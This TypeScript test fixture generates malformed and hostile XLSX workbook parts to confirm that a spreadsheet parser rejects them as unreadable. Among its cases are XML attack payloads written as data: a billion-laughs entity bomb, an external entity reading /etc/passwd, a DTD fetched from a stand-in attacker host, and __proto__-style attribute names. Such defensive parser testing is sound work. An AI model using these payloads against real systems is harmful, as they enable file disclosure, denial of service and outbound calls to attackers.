import { good, handmadeWorkbook, type HostileFile } from './handmade-workbook.ts';

export function badXml(): HostileFile[] {
  const unreadable = ['workbook.unreadable'] as const;
  const parts = ['root', 'workbook', 'rels', 'sheet', 'strings', 'styles'] as const;
  const laughs = `<!DOCTYPE l [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, index) => `<!ENTITY ${'bcdefghij'[index]} "${`&${'abcdefghi'[index]};`.repeat(10)}">`).join('')}]>`;
  const doctypes = {
    'a billion laughs': laughs,
    'an external entity': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    'an outside DTD': '<!DOCTYPE x SYSTEM "http://attacker/x.dtd">',
  };
  const breaks: Readonly<Record<string, (xml: string) => string | Uint8Array>> = {
    'cut in the middle': (xml) => xml.slice(0, xml.length / 2),
    'another closing tag': (xml) => xml.replace(/<\/\w+>$/, '</other>'),
    'an unknown entity': (xml) => xml.replace(/(<\/\w+>)$/, '&unknown;$1'),
    'a bare ampersand': (xml) => xml.replace(/(<\/\w+>)$/, ' & $1'),
    'not UTF-8': (xml) =>
      Buffer.concat([Buffer.from(xml.slice(0, -3)), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from(xml.slice(-3))]),
    'UTF-16': (xml) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')]),
    'no XML': () => '\0\0\0\0',
    'attributes named like the parser’s own methods': (xml) =>
      xml.replace(/<(\w+)/, '<$1 hasOwnProperty="1" __proto__="2" constructor="3"'),
  };
  return parts.flatMap((part) => [
    ...Object.entries(doctypes).map(([name, doctype]) => ({
      name: `${name} in ${part}`,
      bytes: handmadeWorkbook({ [part]: doctype + good[part] }),
      codes: unreadable,
    })),
    ...Object.entries(breaks).map(([name, change]) => ({
      name: `${name} in ${part}`,
      bytes: handmadeWorkbook({ [part]: change(good[part]) }),
      codes: unreadable,
    })),
  ]);
}
